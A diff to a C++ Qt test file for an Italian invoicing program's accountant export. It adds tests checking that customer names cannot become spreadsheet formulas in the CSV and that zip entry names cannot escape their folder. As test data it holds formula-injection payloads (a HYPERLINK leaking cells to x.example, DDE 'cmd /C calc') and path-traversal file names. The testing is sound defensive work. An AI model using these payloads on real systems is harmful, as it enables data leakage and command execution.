@@ -4,6 +4,7 @@
 #include "UnexpectedWarnings.h"
 #include "accountant/AccountantExport.h"
 #include "accountant/SalesRegister.h"
+#include "accountant/SalesRegisterCsv.h"
 #include "backup/ZipArchive.h"
 #include "business/BusinessFile.h"
 #include "business/CompanyStore.h"
@@ -62,6 +63,17 @@ std::optional<QList<QStringList>> readCsv(const QString& path)
         rows << fields;
     }
     return rows;
+}
+
+// A data directory of year 2026 with the settings pointing at it and the register's layout beside
+// the program.
+void prepareYear(const test::TestEnvironment& env, const DataDirectory& data)
+{
+    QDir().mkpath(env.paths.programDir() + "Report");
+    QFile::copy(QStringLiteral(QUILLIO_LAYOUT_DIR "/RegistroIVA.qrl"),
+                env.paths.programDir() + "Report/RegistroIVA.qrl");
+    data.writeSettings(env.paths.programDir(), "2026");
+    data.makeYear("2026");
 }
 
 } // namespace
@@ -139,16 +151,127 @@ private slots:
         QCOMPARE(found, oddities);
     }
 
+    void csvCellsNeverBecomeFormulas_data()
+    {
+        QTest::addColumn<QString>("customer");
+        QTest::addColumn<QString>("cell");
+        QTest::newRow("equals") << "=HYPERLINK(\"http://x.example/?\"&A1;\"Clicca\")"
+                                << "'=HYPERLINK(\"http://x.example/?\"&A1;\"Clicca\")";
+        QTest::newRow("plus") << "+cmd|' /C calc'!A0"
+                              << "'+cmd|' /C calc'!A0";
+        QTest::newRow("at") << "@SUM(1+9)*cmd|' /C calc'!A0"
+                            << "'@SUM(1+9)*cmd|' /C calc'!A0";
+        QTest::newRow("minus") << "-2+3+cmd|' /C calc'!A0"
+                               << "'-2+3+cmd|' /C calc'!A0";
+        QTest::newRow("leading tab") << "\t=1+1"
+                                     << "'\t=1+1";
+        QTest::newRow("leading carriage return") << "\r=1+1"
+                                                 << "'\r=1+1";
+        QTest::newRow("formula characters inside") << "Rossi = Bianchi - S.n.c. @ Roma"
+                                                   << "Rossi = Bianchi - S.n.c. @ Roma";
+    }
+
+    void csvCellsNeverBecomeFormulas()
+    {
+        QFETCH(QString, customer);
+        QFETCH(QString, cell);
+        // A credit note: its amounts are negative and must stay numbers.
+        einvoice::InvoiceRecord record = invoice(1, QDate(2026, 1, 5), -12.5, 22, -2.75, -15.25);
+        record.ragioneSociale = customer;
+        record.pIva = customer;
+        record.stato = QStringLiteral("Emessa");
+        const SalesRegister reg = SalesRegister::build({record}, {2026, 1, 12}, {{1, customer}});
+        QTemporaryDir dir;
+        const QString path = dir.filePath("Fatture-2026.csv");
+        QFile file(path);
+        QVERIFY(file.open(QIODevice::WriteOnly));
+        file.write(SalesRegisterCsv::of(reg));
+        file.close();
+        const std::optional<QList<QStringList>> rows = readCsv(path);
+        if (!rows)
+            QSKIP("python3 is not installed: the CSV cannot be read back by a CSV reader");
+        QCOMPARE(rows->size(), 2);
+        QCOMPARE(rows->at(1), (QStringList{"1", "05/01/2026", cell, cell, "", "-12,50", "22", "-2,75",
+                                           "-15,25", "Emessa", cell}));
+    }
+
+    void zipEntriesAreSingleNames_data()
+    {
+        QTest::addColumn<QStringList>("stored");
+        QTest::addColumn<QStringList>("entries");
+        const QString second = QStringLiteral("IT01234567897_00002.xml");
+        QTest::newRow("plain names kept") << QStringList{"IT01234567897_00001.xml", second}
+                                          << QStringList{"IT01234567897_00001.xml", second};
+        QTest::newRow("climbing out") << QStringList{"../../Esecuzione automatica/avvia.xml", second}
+                                      << QStringList{"Fattura-2026-1.xml", second};
+        QTest::newRow("a subfolder") << QStringList{"a/b.xml", second}
+                                     << QStringList{"Fattura-2026-1.xml", second};
+        QTest::newRow("absolute") << QStringList{"/tmp/x.xml", second}
+                                  << QStringList{"Fattura-2026-1.xml", second};
+        QTest::newRow("backslashes") << QStringList{"..\\..\\x.xml", second}
+                                     << QStringList{"Fattura-2026-1.xml", second};
+        QTest::newRow("dot dot") << QStringList{"..", second} << QStringList{"Fattura-2026-1.xml", second};
+        QTest::newRow("empty") << QStringList{"", second} << QStringList{"Fattura-2026-1.xml", second};
+        QTest::newRow("one name twice, in another case")
+            << QStringList{"fattura.xml", "FATTURA.XML"} << QStringList{"fattura.xml", "Fattura-2026-2.xml"};
+        QTest::newRow("the made name already taken")
+            << QStringList{"../x.xml", "Fattura-2026-1.xml"}
+            << QStringList{"Fattura-2026-1-2.xml", "Fattura-2026-1.xml"};
+    }
+
+    void zipEntriesAreSingleNames()
+    {
+        QFETCH(QStringList, stored);
+        QFETCH(QStringList, entries);
+        test::TestEnvironment env;
+        QTemporaryDir root;
+        const DataDirectory data(root.path());
+        prepareYear(env, data);
+        {
+            business::BusinessFile company(data.path());
+            for (qint64 number = 1; number <= 2; ++number) {
+                data.addInvoice("2026",
+                                {QDate(2026, 1, 10), QStringLiteral("Cliente %1").arg(number), {}, {}, {10}});
+                business::ExportRegister(company).record(
+                    {2026, number, QStringLiteral("0000%1").arg(number), stored[number - 1],
+                     QDateTime::currentDateTime(), "00",
+                     QByteArray("<Fattura numero=\"") + QByteArray::number(number) + "\"/>"});
+            }
+        }
+        const QString folder = QDir(root.path()).filePath("commercialista/mese");
+        const AccountantExport::Result result = AccountantExport::run({2026, 1, 1}, folder);
+
+        const backup::ZipArchive zip(folder + "/Fatture-elettroniche-2026.zip",
+                                     backup::ZipArchive::Mode::Read);
+        QCOMPARE(zip.entryNames(), entries);
+        for (qsizetype i = 0; i < entries.size(); ++i)
+            QCOMPARE(zip.read(entries[i], 1000),
+                     QByteArray("<Fattura numero=\"") + QByteArray::number(i + 1) + "\"/>");
+        // Every renamed file is reported, and the register's rows name the file as it is in the zip.
+        qsizetype renamed = 0;
+        for (qsizetype i = 0; i < entries.size(); ++i)
+            renamed += stored[i] != entries[i];
+        QStringList reported;
+        for (const RegisterOddity& oddity : result.oddities)
+            if (oddity.kind == RegisterOddity::Kind::RenamedElectronicFile)
+                reported << oddity.text;
+        QCOMPARE(reported.size(), renamed);
+        for (const QString& text : reported)
+            QVERIFY2(text.contains("nel file zip si chiama \"Fattura-2026-"), qPrintable(text));
+        const std::optional<QList<QStringList>> rows = readCsv(folder + "/Fatture-2026.csv");
+        if (!rows)
+            QSKIP("python3 is not installed: the CSV cannot be read back by a CSV reader");
+        QCOMPARE(rows->size(), 3);
+        QCOMPARE(rows->at(1).last(), entries[0]);
+        QCOMPARE(rows->at(2).last(), entries[1]);
+    }
+
     void exportWritesCsvRegisterAndElectronicInvoices()
     {
         test::TestEnvironment env;
         QTemporaryDir root;
         const DataDirectory data(root.path());
-        QDir().mkpath(env.paths.programDir() + "Report");
-        QFile::copy(QStringLiteral(QUILLIO_LAYOUT_DIR "/RegistroIVA.qrl"),
-                    env.paths.programDir() + "Report/RegistroIVA.qrl");
-        data.writeSettings(env.paths.programDir(), "2026");
-        data.makeYear("2026");
+        prepareYear(env, data);
         data.addInvoice("2026",
                         {QDate(2026, 1, 12), "Bar \"Il Sole\"; di Rossi", "01234567897", {}, {1000.005}});
         const qint64 deleted = data.addInvoice("2026", {QDate(2026, 1, 20), "Da cancellare", {}, {}, {1}});
@@ -214,16 +337,70 @@ private slots:
                  qPrintable(text));
     }
 
+    void commandLineWritesTheExport()
+    {
+        test::TestEnvironment env;
+        QTemporaryDir root;
+        const DataDirectory data(QDir(root.path()).filePath("dati"));
+        QDir().mkpath(data.path());
+        data.makeYear("2026");
+        data.addInvoice("2026", {QDate(2026, 1, 12), "=HYPERLINK(\"http://x.example\")", {}, {}, {100}});
+        const qint64 deleted = data.addInvoice("2026", {QDate(2026, 1, 20), "Da cancellare", {}, {}, {1}});
+        data.addInvoice(
+            "2026", {QDate(2026, 2, 3), "Rossi S.r.l.", {}, {}, {-12.5}, 22, false, -12.5, -2.75, -15.25});
+        data.addInvoice("2026", {QDate(2026, 3, 9), "Fuori periodo", {}, {}, {5}});
+        data.removeRecord("2026", "Fatture.DB", deleted);
+
+        // A scheduled job: no settings at all, so the defaults and the layout beside the tool.
+        QTemporaryDir config;
+        const auto run = [&](const QStringList& arguments, QString* output) {
+            QProcess tool;
+            QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
+            environment.insert("XDG_CONFIG_HOME", config.path());
+            environment.insert("HOME", config.path());
+            environment.remove("QT_QPA_PLATFORM");
+            tool.setProcessEnvironment(environment);
+            tool.start(QStringLiteral(QUILLIO_ARCHIVE_TOOL), QStringList{"accountant"} + arguments);
+            if (!tool.waitForFinished(60000))
+                return -1;
+            *output = QString::fromUtf8(tool.readAllStandardOutput() + tool.readAllStandardError());
+            return tool.exitCode();
+        };
+        const QString folder = QDir(root.path()).filePath("commercialista");
+        QString output;
+        const int exitCode =
+            run({"--year", "2026", "--from", "1", "--to", "2", data.path(), folder}, &output);
+        QVERIFY2(exitCode == 0, qPrintable(output));
+        for (const char* expected : {"Fatture-2026.csv", "Registro-IVA-2026.pdf", "2 fatture esportate",
+                                     "da verificare: Manca la fattura numero 2."})
+            QVERIFY2(output.contains(QString::fromUtf8(expected)), qPrintable(output));
+        QVERIFY(QFileInfo(folder + "/Registro-IVA-2026.pdf").size() > 0);
+        const std::optional<QList<QStringList>> rows = readCsv(folder + "/Fatture-2026.csv");
+        if (!rows)
+            QSKIP("python3 is not installed: the CSV cannot be read back by a CSV reader");
+        QCOMPARE(rows->size(), 3);
+        QCOMPARE(rows->at(1).mid(0, 6),
+                 (QStringList{"1", "12/01/2026", "'=HYPERLINK(\"http://x.example\")", "", "", "100,00"}));
+        QCOMPARE(rows->at(2).mid(0, 9),
+                 (QStringList{"3", "03/02/2026", "Rossi S.r.l.", "", "", "-12,50", "22", "-2,75", "-15,25"}));
+
+        QCOMPARE(run({"--year", "2025", data.path(), folder}, &output), 1);
+        QVERIFY2(output.contains("L'anno 2025 non ha un archivio"), qPrintable(output));
+        QCOMPARE(run({"--year", "2026", "--from", "5", "--to", "3", data.path(), folder}, &output), 2);
+        QVERIFY2(output.contains("Il mese iniziale viene dopo quello finale."), qPrintable(output));
+        QCOMPARE(run({"--year", "2026", "--to", "13", data.path(), folder}, &output), 2);
+        QVERIFY2(output.contains("I mesi vanno da 1 a 12"), qPrintable(output));
+        QCOMPARE(run({"--year", "duemila", data.path(), folder}, &output), 2);
+        QVERIFY2(output.contains("uso: accountant --year AAAA"), qPrintable(output));
+        QCOMPARE(run({data.path(), folder}, &output), 2);
+    }
+
     void longRegisterContinuesOnNumberedPages()
     {
         test::TestEnvironment env;
         QTemporaryDir root;
         const DataDirectory data(root.path());
-        QDir().mkpath(env.paths.programDir() + "Report");
-        QFile::copy(QStringLiteral(QUILLIO_LAYOUT_DIR "/RegistroIVA.qrl"),
-                    env.paths.programDir() + "Report/RegistroIVA.qrl");
-        data.writeSettings(env.paths.programDir(), "2026");
-        data.makeYear("2026");
+        prepareYear(env, data);
         for (int i = 1; i <= 70; ++i)
             data.addInvoice("2026",
                             {QDate(2026, 1 + i % 12, 1), QStringLiteral("Cliente %1").arg(i), {}, {}, {10}});
